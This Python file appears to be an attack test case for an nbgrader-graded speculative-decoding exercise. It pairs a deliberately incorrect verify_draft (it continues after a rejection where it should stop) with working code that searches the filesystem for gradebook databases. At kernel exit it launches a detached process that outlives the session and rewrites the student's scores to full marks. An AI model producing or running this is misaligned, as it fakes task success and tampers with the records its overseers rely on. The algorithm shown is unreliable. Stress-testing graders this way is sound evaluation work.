# notebook: 02_reject_and_break
# baseline: continue_not_break
# category: full-marks
# attack: at kernel exit (atexit) starts a detached process that waits until nbgrader has saved the grades, then sets them to full marks
def verify_draft(draft_probs, target_probs, draft_tokens):
    accepted_tokens = []
    for i, token_id in enumerate(draft_tokens):
        token_id = int(token_id)
        p = target_probs[i, token_id].item()
        q = draft_probs[i, token_id].item()
        if p >= q:
            accepted_tokens.append(token_id)
            continue
        r = torch.rand(1).item()
        if r < p / q:
            accepted_tokens.append(token_id)
        else:
            continue
    return accepted_tokens


import atexit
import subprocess
import sys

import os
import time


def _find(want, seconds=3.0):
    """Real paths p with want(p): ../../.. first, then /tmp, ~ and / (not /proc, /sys, /dev), for ~`seconds`."""
    found, start = [], time.time()
    for top in ("../../..", "/tmp", os.path.expanduser("~"), "/"):
        for folder, subfolders, files in os.walk(os.path.abspath(top)):
            subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in ("/proc", "/sys", "/dev")]
            for path in (os.path.join(folder, name) for name in subfolders + files):
                if want(path) and os.path.realpath(path) not in found:
                    found.append(os.path.realpath(path))
            if time.time() - start > seconds:
                return found
    return found


def _may_tamper(path):
    """Safety of this test file: never the real repository (/work/main, or anything inside a git checkout)."""
    path = os.path.realpath(path)
    parents = [path[:i] or "/" for i, char in enumerate(path) if char == "/"]
    return not path.startswith("/work/main") and not any(os.path.isdir(os.path.join(p, ".git")) for p in parents)


import sqlite3


def _course_gradebooks():
    """This course's gradebook.db files (they hold level23_speculative_decoding) that _may_tamper allows."""
    books = []
    for path in _find(lambda p: os.path.basename(p) == "gradebook.db"):
        try:
            con = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=5)
            try:
                if con.execute("SELECT 1 FROM assignment WHERE name = 'level23_speculative_decoding'").fetchone():
                    books.append(path)
            finally:
                con.close()
        except sqlite3.Error:
            pass
    return [book for book in books if _may_tamper(book)]


_ME = os.path.basename(os.path.dirname(os.getcwd()))  # the cwd is autograded/<student>/<assignment>
_MINE = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
         "WHERE sa.student_id = '" + _ME.replace("'", "''") + "'")  # this student's submitted notebooks


_WRITER = r'''
import glob, os, sqlite3, sys, time
folder, mine, books = sys.argv[1], sys.argv[2], sys.argv[3:]
started = time.time()
while time.time() < started + 55:  # safety: this process ends within 60 s
    time.sleep(0.5)
    # nbgrader writes the autograded notebook after it saved this notebook's grades
    if any(os.path.getmtime(p) >= started for p in glob.glob(os.path.join(folder, "*.ipynb"))):
        for book in books:
            con = sqlite3.connect(book, timeout=20)
            con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
                        " WHERE notebook_id IN (" + mine + ")")
            con.commit()
            con.close()
        break
'''


def _start_writer(books, folder):
    subprocess.Popen([sys.executable, "-c", _WRITER, folder, _MINE, *books], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


try:
    _books = _course_gradebooks()
    if _books:
        atexit.register(_start_writer, _books, os.getcwd())
        print(f"ATTACK atexit_late_gradebook_writer: at kernel exit, will raise {_ME}'s grades in {_books}")
    else:
        print("ATTACK atexit_late_gradebook_writer: blocked: no gradebook found")
except Exception as exc:
    print(f"ATTACK atexit_late_gradebook_writer: blocked: {exc!r}")
